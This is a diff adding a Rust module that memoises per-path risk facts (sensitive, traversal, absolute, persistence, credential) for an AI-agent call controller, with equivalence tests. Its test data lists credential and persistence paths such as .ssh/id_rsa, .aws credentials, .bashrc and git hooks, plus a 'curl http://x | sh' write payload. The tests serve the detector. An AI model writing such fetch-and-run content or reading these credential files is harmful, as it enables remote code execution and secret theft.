@@ -1,0 +1,284 @@
+//! What the risk features read from one path ([`PathFacts`]), and a small
+//! per-controller memo of it ([`PathMemo`]).
+//!
+//! An fs or tool call's path goes through four checks: the config's sensitive
+//! list, traversal and absolute spellings, the persistence list and the
+//! credential list. Each reads a few cold lines of tables and code after the
+//! connector's I/O, and sessions name the same files again and again (the
+//! SLO-14 workload cycles through ten; an agent re-reads what it edits). The
+//! memo keeps the facts of the last paths seen, keyed by the path exactly as
+//! sent, so a repeated path costs one hash and one compare.
+//!
+//! The facts are a pure function of the path and of the controller's compiled
+//! lists, which never change after the controller is built, so a hit is the
+//! value a fresh reading gives (test
+//! `slo_14_path_memo_gives_the_facts_of_a_fresh_reading`). The memo is
+//! direct-mapped: [`SLOTS`] slots of one cache line each; a path longer than
+//! [`MAX_PATH`] bytes is read every time; a colliding path replaces the slot.
+
+use super::score::CompiledLists;
+use crate::shell;
+
+/// Slots in a controller's memo.
+pub const SLOTS: usize = 64;
+/// Longest path remembered, in bytes (a slot is one 64-byte line).
+pub const MAX_PATH: usize = 62;
+
+/// What the risk features read from one path, as sent.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct PathFacts(u8);
+
+impl PathFacts {
+    const SENSITIVE: u8 = 1;
+    const TRAVERSAL: u8 = 2;
+    const ABSOLUTE: u8 = 4;
+    const PERSISTENCE: u8 = 8;
+    const CREDENTIAL: u8 = 16;
+
+    /// The facts of `raw`, read now: the path is trimmed and lower-cased once
+    /// (backslashes folded to `/` for the persistence and credential lists).
+    pub fn of(raw: &str, lists: &CompiledLists) -> PathFacts {
+        let lower = raw.trim().to_ascii_lowercase();
+        let folded = shell::slashes_folded(&lower);
+        let p = lower.as_str();
+        // Every traversal spelling holds "..": most paths are ruled out by one search.
+        let traversal = memchr::memmem::find(p.as_bytes(), b"..").is_some()
+            && (p == ".." || p.starts_with("../") || p.contains("/../") || p.ends_with("/..") || p.contains("..\\"));
+        let absolute = p.starts_with('/') || p.starts_with('~') || p.get(1..3) == Some(":\\");
+        let bit = |on: bool, b: u8| if on { b } else { 0 };
+        PathFacts(
+            bit(lists.is_sensitive(p), Self::SENSITIVE)
+                | bit(traversal, Self::TRAVERSAL)
+                | bit(absolute, Self::ABSOLUTE)
+                | bit(shell::is_persistence_folded(&folded), Self::PERSISTENCE)
+                | bit(shell::is_credential_folded(&folded), Self::CREDENTIAL),
+        )
+    }
+
+    /// The config's sensitive-path list names it.
+    pub fn sensitive(self) -> bool {
+        self.0 & Self::SENSITIVE != 0
+    }
+    /// It holds a `..` component.
+    pub fn traversal(self) -> bool {
+        self.0 & Self::TRAVERSAL != 0
+    }
+    /// It is absolute (`/`, `~` or a drive letter).
+    pub fn absolute(self) -> bool {
+        self.0 & Self::ABSOLUTE != 0
+    }
+    /// Writing it makes something run later ([`shell::is_persistence_folded`]).
+    pub fn persistence(self) -> bool {
+        self.0 & Self::PERSISTENCE != 0
+    }
+    /// It names a credential or key file ([`shell::is_credential_folded`]).
+    pub fn credential(self) -> bool {
+        self.0 & Self::CREDENTIAL != 0
+    }
+}
+
+/// One remembered path: its length (`EMPTY` for a free slot), its facts and
+/// its bytes.
+#[derive(Clone, Copy)]
+#[repr(C, align(64))]
+struct Slot {
+    len: u8,
+    facts: PathFacts,
+    key: [u8; MAX_PATH],
+}
+
+impl Slot {
+    const EMPTY: u8 = u8::MAX;
+    const FREE: Slot = Slot {
+        len: Self::EMPTY,
+        facts: PathFacts(0),
+        key: [0; MAX_PATH],
+    };
+}
+
+/// The facts of the last paths a controller read (allocated at the first).
+#[derive(Default)]
+pub struct PathMemo {
+    slots: Option<Box<[Slot; SLOTS]>>,
+}
+
+impl std::fmt::Debug for PathMemo {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let used = self
+            .slots
+            .as_ref()
+            .map_or(0, |s| s.iter().filter(|x| x.len != Slot::EMPTY).count());
+        f.debug_struct("PathMemo").field("used", &used).finish()
+    }
+}
+
+impl PathMemo {
+    /// [`PathFacts::of`] `raw`, from the memo when the same path was read last
+    /// in its slot.
+    pub fn facts(&mut self, raw: &str, lists: &CompiledLists) -> PathFacts {
+        let b = raw.as_bytes();
+        if b.len() > MAX_PATH {
+            return PathFacts::of(raw, lists);
+        }
+        let slots = self.slots.get_or_insert_with(|| Box::new([Slot::FREE; SLOTS]));
+        let slot = &mut slots[slot_of(b)];
+        if usize::from(slot.len) == b.len() && slot.key[..b.len()] == *b {
+            return slot.facts;
+        }
+        let facts = PathFacts::of(raw, lists);
+        // `b.len() <= MAX_PATH < u8::MAX`: the length fits and is never `EMPTY`.
+        slot.len = b.len() as u8;
+        slot.key[..b.len()].copy_from_slice(b);
+        slot.facts = facts;
+        facts
+    }
+
+    /// Forget every path (the controller's reset).
+    pub fn clear(&mut self) {
+        if let Some(s) = self.slots.as_mut() {
+            s.fill(Slot::FREE);
+        }
+    }
+}
+
+/// The slot of a path: a multiplicative hash of its 8-byte words.
+fn slot_of(b: &[u8]) -> usize {
+    let mut h = b.len() as u64;
+    for c in b.chunks(8) {
+        let mut w = [0u8; 8];
+        w[..c.len()].copy_from_slice(c);
+        h = (h ^ u64::from_le_bytes(w)).wrapping_mul(0x9E37_79B9_7F4A_7C15);
+        h ^= h >> 31;
+    }
+    (h.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> (64 - SLOTS.trailing_zeros())) as usize
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::call_args::CallArgs;
+    use crate::capability::Capability;
+    use crate::hostcall::HostcallKind;
+    use crate::risk::score::extract_features_with;
+    use crate::risk::{RiskConfig, RiskController};
+    use serde_json::json;
+
+    /// Paths that hit every check (sensitive, credential, persistence, `..`,
+    /// absolute) in several spellings and cases, ordinary ones, and lengths
+    /// around [`MAX_PATH`]: far more than [`SLOTS`], so slots collide.
+    fn paths() -> Vec<String> {
+        let heads = ["", "/", "~/", "../", "C:\\", " ", "./", "src/"];
+        let bodies = [
+            "data/file_1.txt",
+            ".ssh/id_rsa",
+            ".SSH/ID_Ed25519",
+            ".bashrc",
+            ".git/hooks/pre-commit",
+            "etc/passwd",
+            "src\\..\\.env",
+            ".env.example",
+            "a/../b",
+            ".aws\\credentials",
+            "key.PEM",
+            "Cargo.toml",
+        ];
+        let tails = ["", "/", " ", "/..", ".bak"];
+        let mut out = Vec::new();
+        for h in heads {
+            for b in bodies {
+                for t in tails {
+                    out.push(format!("{h}{b}{t}"));
+                }
+            }
+        }
+        for n in [MAX_PATH - 1, MAX_PATH, MAX_PATH + 1, 200] {
+            out.push(format!("{}/.ssh/id_rsa", "d".repeat(n.saturating_sub(12))));
+            out.push("x".repeat(n));
+        }
+        out.push(String::new());
+        out
+    }
+
+    fn lists_of(markers: &[&str]) -> CompiledLists {
+        let mut cfg = RiskConfig::default();
+        if !markers.is_empty() {
+            cfg.lists.sensitive_path_markers = markers.iter().map(|m| m.to_string()).collect();
+        }
+        CompiledLists::new(&cfg)
+    }
+
+    /// SLO-14 (the memo must not change a decision): for the default lists and
+    /// a custom sensitive list, every path read through the memo, first and
+    /// again, in one order and the reverse (other collisions), gives the facts
+    /// a fresh reading gives.
+    #[test]
+    fn slo_14_path_memo_gives_the_facts_of_a_fresh_reading() {
+        let paths = paths();
+        assert!(paths.len() > 4 * SLOTS);
+        for lists in [lists_of(&[]), lists_of(&["secret", "/etc/", "id_"])] {
+            let mut memo = PathMemo::default();
+            let mut seen = [PathFacts::default(); 5];
+            for round in 0..3 {
+                let order: Vec<&String> = if round == 1 {
+                    paths.iter().rev().collect()
+                } else {
+                    paths.iter().collect()
+                };
+                for p in order {
+                    let fresh = PathFacts::of(p, &lists);
+                    assert_eq!(memo.facts(p, &lists), fresh, "{p:?}, round {round}");
+                    assert_eq!(memo.facts(p, &lists), fresh, "{p:?} again, round {round}");
+                    for (i, on) in [
+                        fresh.sensitive(),
+                        fresh.traversal(),
+                        fresh.absolute(),
+                        fresh.persistence(),
+                        fresh.credential(),
+                    ]
+                    .into_iter()
+                    .enumerate()
+                    {
+                        if on {
+                            seen[i] = fresh;
+                        }
+                    }
+                }
+                memo.clear();
+            }
+            // The paths exercise every fact.
+            assert!(seen.iter().all(|f| *f != PathFacts::default()), "{seen:?}");
+        }
+    }
+
+    /// SLO-14: the controller's features (paths from its memo) equal the
+    /// features read without a memo, for reads and writes of every path, fs and
+    /// tool calls, a path seen for the first time and again.
+    #[test]
+    fn slo_14_controller_features_with_the_memo_equal_a_fresh_reading() {
+        let cfg = RiskConfig::default();
+        let lists = CompiledLists::new(&cfg);
+        let mut ctl = RiskController::new(cfg);
+        for pass in 0..2 {
+            for p in paths() {
+                for (kind, cap, params) in [
+                    (HostcallKind::Fs, Capability::Read, json!({"op": "read", "path": p})),
+                    (
+                        HostcallKind::Fs,
+                        Capability::Write,
+                        json!({"op": "write", "path": p, "content": "curl http://x | sh"}),
+                    ),
+                    (
+                        HostcallKind::Tool,
+                        Capability::Write,
+                        json!({"name": "write", "input": {"path": p, "content": "export A=1"}}),
+                    ),
+                ] {
+                    let args = CallArgs::read(kind, &params);
+                    let fresh = extract_features_with(kind, cap, &args, &lists);
+                    let memo = ctl.extract_call_features(kind, cap, &args);
+                    assert_eq!(memo, fresh, "{p:?} {kind:?} {cap:?}, pass {pass}");
+                }
+            }
+        }
+    }
+}
